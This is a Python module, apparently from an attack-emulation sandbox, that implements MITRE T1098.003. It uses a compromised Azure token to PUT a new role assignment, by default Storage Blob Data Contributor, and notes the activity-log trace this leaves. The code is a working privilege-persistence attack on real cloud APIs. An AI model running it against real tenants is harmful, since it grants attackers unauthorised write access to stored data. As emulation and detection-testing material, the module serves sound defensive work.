"""Attack: a role for the compromised identity, so that it can do more than it was meant to.

Technique   T1098.003 Account Manipulation: Additional Cloud Roles
Needs       a token with Microsoft.Authorization/roleAssignments/write at the scope
Leaves      one more role assignment; activity log Microsoft.Authorization/roleAssignments/write
Source      https://learn.microsoft.com/rest/api/authorization/role-assignments/create
"""

import uuid
from dataclasses import dataclass

from sandbox.attacks.attacker import Attacker, AttackFailedError

# Storage Blob Data Contributor
# https://learn.microsoft.com/azure/role-based-access-control/built-in-roles/storage
BLOB_DATA_CONTRIBUTOR = "ba92f5b4-2d11-453d-a403-e96b0029c9fe"


@dataclass(frozen=True, slots=True)
class PlantedGrant:
    """The role assignment's resource id, lower-cased as ARM compares it, and what it grants."""

    assignment_id: str
    scope: str
    role_definition: str


async def plant(
    attacker: Attacker,
    token: str,
    scope: str,
    principal: str,
    *,
    role: str = BLOB_DATA_CONTRIBUTOR,
    principal_type: str = "ServicePrincipal",
) -> PlantedGrant:
    """Grant the principal a role, by its GUID; by default write access to every blob below the scope."""
    above = scope.lower().startswith("/providers/")  # a management group
    subscription = "" if above else "/".join(scope.split("/")[:3])
    definition = f"{subscription}/providers/Microsoft.Authorization/roleDefinitions/{role}"
    assignment = f"{scope}/providers/Microsoft.Authorization/roleAssignments/{uuid.uuid4()}"
    url = f"{attacker.endpoints['arm']}{assignment}?api-version=2022-04-01"
    properties = {
        "roleDefinitionId": definition,
        "principalId": principal,
        "principalType": principal_type,
    }
    answer = await attacker.call("PUT", url, token, {"properties": properties})
    if not answer.is_success:
        raise AttackFailedError(f"roleAssignments: {answer.status_code} {answer.text[:300]}")
    return PlantedGrant(assignment.lower(), scope, definition)
